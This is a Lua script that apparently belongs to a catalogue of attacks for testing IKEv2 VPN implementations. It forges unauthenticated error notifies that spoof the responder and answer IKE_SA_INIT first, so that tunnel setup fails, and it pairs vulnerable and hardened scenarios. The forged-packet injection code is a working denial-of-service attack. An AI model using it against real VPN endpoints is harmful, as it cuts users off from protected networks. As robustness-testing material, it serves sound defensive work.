-- The answer to IKE_SA_INIT is not protected: whoever is faster may say "no". An initiator that believes the first error gives up; a patient
-- one knows that such an answer may come from anybody, and waits a while for a better one.
attack = {
  id = "A17", name = "spoofed-notify",
  about = "Answers IKE_SA_INIT at once with a forged error; the responder's own answer comes a moment later",
  position = "on-path",
  needs = "to see IKE_SA_INIT, and to be faster than the responder",
  source = "RFC 7296, 2.21.1 (an unauthenticated error is not to be trusted), 2.6; libreswan issue 294; catalogue A17",
  shows = {
    vulnerable = "the initiator gives up at the first forged NO_PROPOSAL_CHOSEN, every time it tries",
    hardened = "the initiator goes on waiting: the genuine answer is taken, and the tunnel comes up",
  },
  scenarios = { vulnerable = "spoofed-notify", hardened = "spoofed-notify-patient" },
}

-- Parameter: what = "NO_PROPOSAL_CHOSEN" (default), "INVALID_KE_PAYLOAD", "COOKIE", "INVALID_SYNTAX"
local what, forged, up = "NO_PROPOSAL_CHOSEN", 0, false
local numbers = { NO_PROPOSAL_CHOSEN = 14, INVALID_KE_PAYLOAD = 17, COOKIE = 16390, INVALID_SYNTAX = 7 }
local data = { INVALID_KE_PAYLOAD = "\0\14", COOKIE = "not a cookie of the responder's" }

function on_start(params)
  what = params.what or what
  assert(numbers[what], "parameter what: one of NO_PROPOSAL_CHOSEN, INVALID_KE_PAYLOAD, COOKIE, INVALID_SYNTAX")
end

on({ exchange = "IKE_SA_INIT", response = false }, function(p, message)
  forged = forged + 1
  inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from,
    note = "a forged " .. what .. ", before the responder has seen the request",
    payload = ike.encode{ spi_i = message.spi_i, spi_r = "0000000000000000", exchange = 34, response = true, initiator = false, message_id = 0,
      payloads = { ike.notify(numbers[what], data[what]) } } }
end)

on({ exchange = "IKE_AUTH", response = true }, function() up = true end)

function on_finish()
  achieved("keep the tunnel down", not up,
    up and "the initiator went on to IKE_AUTH in spite of " .. forged .. " forged answers" or forged .. " forged answers, and no IKE_AUTH was completed")
end
